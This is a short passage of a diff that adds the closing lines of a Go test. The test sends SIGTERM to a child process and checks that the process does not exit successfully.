+		}
+		if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
+			t.Fatal(err)
+		}
+		if state, err := cmd.Process.Wait(); err != nil || state.Success() {
+			t.Errorf("%v: %v, %v", args, state, err)
+		}
+	}
+}
